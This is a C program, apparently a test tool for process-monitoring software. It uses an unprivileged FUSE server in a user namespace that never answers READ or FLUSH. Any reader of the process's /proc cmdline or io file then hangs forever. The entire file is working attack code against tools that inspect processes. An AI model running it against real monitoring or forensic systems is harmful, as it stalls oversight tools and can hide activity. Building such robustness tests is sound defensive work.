/*
 * A tenant's process that makes whoever reads its command line wait for ever, with nothing but what
 * any account has: a FUSE server in a user namespace of its own, /dev/fuse being open to all.
 *
 *     fuse-hang cmdline|io [DEVICE]     /dev/fuse, or a copy that all may open, as udev makes it
 *
 * cmdline: the process has its arguments in memory that a file of the server backs; the server never
 *          answers READ, so whoever reads the arguments waits for it.
 * io:      the process calls execve with a file of the server open that is to be closed then; the
 *          server never answers FLUSH, and /proc/PID/io is told under a lock that execve holds.
 *
 * Prints the pid of the process that hangs its readers. It must not achieve that anybody else's
 * command lines are missing from the evidence, nor that more of its own are than of this process.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/fuse.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static void die(const char *what) {
  perror(what);
  exit(1);
}

static void put(const char *path, const char *text) {
  int fd = open(path, O_WRONLY);
  if (fd < 0 || write(fd, text, strlen(text)) < 0) die(path);
  close(fd);
}

static void enter_namespaces(void) {
  char map[64];
  uid_t uid = getuid();
  gid_t gid = getgid();
  if (unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0) die("unshare");
  put("/proc/self/setgroups", "deny");
  snprintf(map, sizeof map, "0 %u 1", uid);
  put("/proc/self/uid_map", map);
  snprintf(map, sizeof map, "0 %u 1", gid);
  put("/proc/self/gid_map", map);
}

static void reply(int fuse, uint64_t unique, int error, const void *body, size_t size) {
  static char out[65536];
  struct fuse_out_header head = {sizeof head + size, error, unique};
  memcpy(out, &head, sizeof head);
  memcpy(out + sizeof head, body, size);
  if (write(fuse, out, sizeof head + size) < 0 && errno != ENOENT) die("reply");
}

static struct fuse_attr attributes(uint64_t node) {
  struct fuse_attr attr = {.ino = node, .nlink = 1, .size = 4096, .blocks = 8, .blksize = 4096};
  attr.mode = node == 1 ? S_IFDIR | 0755 : S_IFREG | 0666;
  return attr;
}

/* Answers what is asked before the file can be used, and neither READ nor FLUSH. */
static void serve(int fuse) {
  static char in[1 << 20];
  for (;;) {
    ssize_t got = read(fuse, in, sizeof in);
    if (got < 0 && (errno == EINTR || errno == ENOENT)) continue;
    if (got < 0) exit(0);
    struct fuse_in_header *head = (void *)in;
    uint64_t unique = head->unique;
    switch (head->opcode) {
    case FUSE_INIT: {
      struct fuse_init_out init = {.major = 7, .minor = 31, .max_write = 65536};
      reply(fuse, unique, 0, &init, sizeof init);
      break;
    }
    case FUSE_LOOKUP: {
      struct fuse_entry_out entry = {.nodeid = 2, .attr_valid = 3600, .entry_valid = 3600};
      entry.attr = attributes(2);
      reply(fuse, unique, 0, &entry, sizeof entry);
      break;
    }
    case FUSE_GETATTR: {
      struct fuse_attr_out attr = {.attr_valid = 3600, .attr = attributes(head->nodeid)};
      reply(fuse, unique, 0, &attr, sizeof attr);
      break;
    }
    case FUSE_OPEN: {
      struct fuse_open_out opened = {.fh = 1};
      reply(fuse, unique, 0, &opened, sizeof opened);
      break;
    }
    case FUSE_READ:
    case FUSE_FLUSH:
    case FUSE_FORGET:
    case FUSE_INTERRUPT:
      break;
    default:
      reply(fuse, unique, -ENOSYS, "", 0);
    }
  }
}

/* Lets the kernel look for the arguments in memory that the server backs. */
static void arguments_in(char *page) {
  char *begin = page, *end = page + 4096;
  /* The end first: the kernel checks that they do not cross. */
  if (prctl(PR_SET_MM, PR_SET_MM_ARG_END, end, 0, 0) < 0 ||
      prctl(PR_SET_MM, PR_SET_MM_ARG_START, begin, 0, 0) < 0) {
    struct prctl_mm_map map;
    memset(&map, 0, sizeof map);
    FILE *stat = fopen("/proc/self/stat", "r");
    char text[4096];
    if (stat == NULL || fgets(text, sizeof text, stat) == NULL) die("stat");
    fclose(stat);
    unsigned long long field[64] = {0};
    int at = 3;
    for (char *word = strtok(strrchr(text, ')') + 2, " "); word != NULL && at < 60; word = strtok(NULL, " "))
      field[at++] = strtoull(word, NULL, 10);
    map.start_code = field[26];
    map.end_code = field[27];
    map.start_stack = field[28];
    map.start_data = field[45];
    map.end_data = field[46];
    map.start_brk = field[47];
    map.brk = (uint64_t)(uintptr_t)sbrk(0);
    map.arg_start = (uint64_t)(uintptr_t)begin;
    map.arg_end = (uint64_t)(uintptr_t)end;
    map.env_start = field[50];
    map.env_end = field[51];
    map.exe_fd = -1;
    if (prctl(PR_SET_MM, PR_SET_MM_MAP, &map, sizeof map, 0) < 0) die("PR_SET_MM_MAP");
  }
}

int main(int count, char **words) {
  int by_io = count > 1 && strcmp(words[1], "io") == 0;
  if (count > 1 && strcmp(words[1], "wait") == 0) {
    pause();
    return 0;
  }
  char place[] = "/tmp/fuse-hang-XXXXXX", options[128], file[128];
  if (mkdtemp(place) == NULL) die("mkdtemp");
  enter_namespaces();
  int fuse = open(count > 2 ? words[2] : "/dev/fuse", O_RDWR | O_CLOEXEC);
  if (fuse < 0) die("/dev/fuse");
  snprintf(options, sizeof options, "fd=%d,rootmode=40000,user_id=0,group_id=0", fuse);
  if (mount("x", place, "fuse", MS_NOSUID | MS_NODEV, options) < 0) die("mount");
  pid_t server = fork();
  if (server == 0) {
    prctl(PR_SET_PDEATHSIG, SIGKILL);
    serve(fuse);
  }
  close(fuse);
  snprintf(file, sizeof file, "%s/file", place);
  int fd = open(file, O_RDONLY | O_CLOEXEC);
  if (fd < 0) die(file);
  if (!by_io) {
    char *page = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
    if (page == MAP_FAILED) die("mmap");
    arguments_in(page);
  }
  printf("%d\n", getpid());
  fflush(stdout);
  if (by_io) execl("/proc/self/exe", "fuse-hang", "wait", NULL);
  for (;;) pause();
}
